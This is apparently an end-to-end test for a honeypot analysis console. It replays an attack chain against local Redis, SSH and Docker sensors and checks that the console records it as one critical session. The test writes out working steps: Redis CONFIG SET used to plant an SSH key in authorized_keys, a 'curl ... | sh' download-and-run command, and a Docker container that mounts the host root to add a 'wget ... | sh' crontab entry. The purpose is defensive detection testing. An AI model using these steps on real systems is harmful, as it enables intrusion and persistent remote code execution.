/** A visitor who begins on Redis, goes on over SSH and ends on Docker, as an analyst finds him in the console. */
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import type { SessionDetail, SessionRow, StoredEvent } from '../../src/api/events.ts';
import { type Running, said, start } from '../../src/bench/processes.ts';
import { openBrowser, screenshot, seriousViolations } from '../fixtures/browser.ts';
import { buildConsole } from '../fixtures/console-build.ts';
import { type Sensor, startSensor, without } from '../honeypot/sensor.ts';

const visitor = '127.0.0.1';
const other = '127.0.0.2';

describe('a session over three services', {
  skip: without('chromium', 'redis-cli', 'ssh', 'ssh-keygen', 'docker', 'curl'),
}, () => {
  let folder: string;
  let up: Running;
  let url: string;
  let sensor: Sensor;
  let browser: Browser;
  let page: Page;

  before(async () => {
    buildConsole();
    folder = mkdtempSync(join(tmpdir(), 'waterguard-session-'));
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(folder, 'key')]);
    up = start(['up', '--data', join(folder, 'store'), '--listen', '127.0.0.1:0'], {
      XDG_CACHE_HOME: join(folder, 'cache'),
    });
    url = await said(up, /listening on (http:\S+)/, 120_000);
    browser = await openBrowser();
    page = await browser.newPage({ viewport: { width: 1280, height: 1600 }, colorScheme: 'light' });
    page.setDefaultTimeout(15_000);
    await page.goto(await said(up, /(http:\S+\/sign-in#[\w-]+)/));
    await page.getByRole('heading', { name: 'Overview' }).waitFor();
    const { secret } = await api<{ secret: string }>('/v1/sensors/enrolments', { name: 'edge' });
    writeFileSync(join(folder, 'invitation'), `${secret}\n`, { mode: 0o600 });
    sensor = await startSensor(['redis', 'ssh', 'docker'], {
      flags: ['--server', url, '--token-file', join(folder, 'invitation')],
    });
  });
  after(async () => {
    await sensor?.[Symbol.asyncDispose]();
    await browser?.close();
    await up?.kill();
    rmSync(folder, { recursive: true, force: true });
  });

  /** As whoever is signed in. @param body what is posted; without one it is read */
  async function api<T>(path: string, body?: object): Promise<T> {
    const request = body && {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    };
    const text = await page.evaluate<string>(
      `fetch(${JSON.stringify(path)}, ${JSON.stringify(request ?? {})}).then((answer) => answer.text())`,
    );
    return JSON.parse(text) as T;
  }

  async function run(program: string, args: readonly string[]): Promise<string> {
    return new Promise((resolve, reject) => {
      const env = { PATH: process.env.PATH, HOME: folder };
      execFile(program, [...args], { env, timeout: 60_000 }, (error, stdout, stderr) =>
        error === null ? resolve(stdout) : reject(new Error(`${program} ${args.join(' ')}: ${stderr}`)),
      ).stdin?.end();
    });
  }

  const sessionsOf = async (source: string): Promise<readonly SessionRow[]> =>
    (await api<{ items: SessionRow[] }>(`/v1/sessions?source=${source}`)).items;

  it('is played: a key by Redis, commands by that key, a container that leaves a crontab', async () => {
    const key = readFileSync(join(folder, 'key.pub'), 'utf8').trim();
    const redis = (...args: readonly string[]) =>
      run('redis-cli', ['-h', visitor, '-p', String(sensor.port('redis')), ...args]);
    assert.equal(await redis('config', 'set', 'dir', '/root/.ssh'), 'OK\n');
    assert.equal(await redis('config', 'set', 'dbfilename', 'authorized_keys'), 'OK\n');
    assert.equal(await redis('set', 'x', `\n\n${key}\n\n`), 'OK\n');
    assert.equal(await redis('save'), 'OK\n');

    const options = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'LogLevel=ERROR'];
    const ssh = [
      ...options.map((option) => `-o${option}`),
      ...['-oPasswordAuthentication=no', '-i', join(folder, 'key'), `-p${sensor.port('ssh')}`],
    ];
    const command = 'id; curl -fsSL http://198.51.100.4/first.sh | sh; nproc';
    assert.match(await run('ssh', [...ssh, `root@${visitor}`, command]), /^uid=0\(root\)/);

    const script = `echo '* * * * * root wget -qO- http://198.51.100.5/second.sh | sh' >> /etc/crontab; echo left`;
    const host = ['-H', `tcp://${visitor}:${sensor.port('docker')}`];
    const container = ['run', '--rm', '-v', '/:/mnt', 'alpine', 'chroot', '/mnt', 'sh', '-c', script];
    assert.equal(await run('docker', [...host, ...container]), 'left\n');

    const version = `http://${visitor}:${sensor.port('docker')}/version`;
    assert.match(await run('curl', ['-s', '--interface', other, version]), /"Version":"20\.10\.24/);
    await sensor.event('docker.close', ({ src }) => src.ip === other);
  });

  it('is one session, and another source another', async () => {
    let own: readonly SessionRow[] = [];
    for (let tries = 0; tries < 100; tries++) {
      own = await sessionsOf(visitor);
      if (own[0]?.services.includes('docker') && (await sessionsOf(other)).length > 0) break;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    assert.equal(own.length, 1, sensor.told());
    assert.deepEqual(own[0]!.services, ['redis', 'ssh', 'docker']);
    assert.equal(own[0]!.severity, 'critical');
    for (const technique of ['T1098.004', 'T1053.003', 'T1105', 'T1610', 'T1611'])
      assert.ok(own[0]!.techniques.includes(technique), `${technique} in ${own[0]!.techniques.join()}`);
    const others = await sessionsOf(other);
    assert.deepEqual(
      others.map(({ services }) => services),
      [['docker']],
    );
    assert.notEqual(others[0]!.id, own[0]!.id);
    const { hosts, names } = await api<SessionDetail>(`/v1/sessions/${own[0]!.id}`);
    assert.deepEqual(hosts.toSorted(), ['198.51.100.4', '198.51.100.5']);
    assert.equal(names.length, 1, 'the sensor knows it as one, too');
    const { items } = await api<{ items: StoredEvent[] }>(`/v1/sessions/${own[0]!.id}/events?limit=200`);
    const told = items.map(({ type }) => type);
    const steps = ['redis.save', 'ssh.auth', 'ssh.exec', 'docker.container.create', 'docker.container.run'];
    assert.deepEqual(
      steps.map((step) => told.indexOf(step)).toSorted((one, two) => one - two),
      steps.map((step) => told.indexOf(step)),
    );
    assert.ok(!steps.some((step) => !told.includes(step)), told.join(' '));
  });

  it('reads from beginning to end in the console', async () => {
    await page.goto(`${url}/honeypots/sessions`);
    await page.getByRole('link', { name: visitor, exact: true }).click();
    await page.getByRole('heading', { name: `Session of ${visitor}` }).waitFor();
    const transcript = page.locator('main ol');
    await transcript.getByText('docker.container.run').first().waitFor();
    const text = await transcript.innerText();
    const lines = [
      'redis.config.set',
      '/root/.ssh/authorized_keys',
      'curl -fsSL http://198.51.100.4/first.sh | sh',
      'uid=0(root)',
      'docker.container.create',
      'wget -qO- http://198.51.100.5/second.sh | sh',
      '/etc/crontab',
    ];
    let from = 0;
    for (const line of lines) {
      const at = text.indexOf(line, from);
      assert.ok(at >= 0, `${line} behind ${from} in ${text}`);
      from = at;
    }
    assert.doesNotMatch(text, new RegExp(other.replaceAll('.', '\\.')));
    await screenshot(page, 'session-over-three-services');
    assert.deepEqual(await seriousViolations(page), []);
  });
});
